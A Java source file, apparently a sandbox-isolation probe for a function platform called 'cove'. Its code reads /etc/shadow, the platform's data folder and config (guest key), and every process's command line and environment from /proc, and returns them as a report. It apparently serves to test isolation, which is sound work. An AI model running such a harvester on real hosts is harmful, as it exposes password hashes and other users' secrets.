import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.AccessDeniedException;
import java.nio.file.Files;
import java.nio.file.NoSuchFileException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.stream.Stream;

/**
 * Reads what a function should never see: the host's password hashes, the platform's data folder and its
 * config (the guest key), and the command line and environment of every process it can find.
 */
public class Snoop {
    static Map<String, Object> attempt(Callable<Object> read) {
        try {
            return Map.of("value", read.call());
        } catch (NoSuchFileException e) {
            return Map.of("error", "ENOENT");
        } catch (AccessDeniedException e) {
            return Map.of("error", "EACCES");
        } catch (Exception e) {
            return Map.of("error", e.toString());
        }
    }

    static String latin1(Path file) throws IOException {
        return new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1);
    }

    public static Map<String, Object> main(Map<String, Object> params) throws Exception {
        String dataDir = (String) params.get("dataDir");
        List<Long> pids = new ArrayList<>();
        try (Stream<Path> entries = Files.list(Path.of("/proc"))) {
            entries.map(p -> p.getFileName().toString()).filter(n -> n.chars().allMatch(Character::isDigit))
                    .map(Long::parseLong).sorted().forEach(pids::add);
        }
        Map<String, Object> procs = new LinkedHashMap<>();
        for (long pid : pids) {
            procs.put(Long.toString(pid), Map.of(
                    "cmdline", attempt(() -> latin1(Path.of("/proc/" + pid + "/cmdline"))),
                    "environ", attempt(() -> latin1(Path.of("/proc/" + pid + "/environ")))));
        }
        Map<String, Object> report = new LinkedHashMap<>();
        report.put("shadow", attempt(() -> latin1(Path.of("/etc/shadow"))));
        report.put("dataDir", attempt(() -> {
            try (Stream<Path> list = Files.list(Path.of(dataDir))) {
                return list.map(Path::toString).toList();
            }
        }));
        report.put("database", attempt(() -> Files.size(Path.of(dataDir, "cove.db"))));
        report.put("config", attempt(() -> latin1(Path.of(System.getProperty("user.home"), ".cove", "config.json"))));
        report.put("pids", pids);
        report.put("procs", procs);
        return report;
    }
}
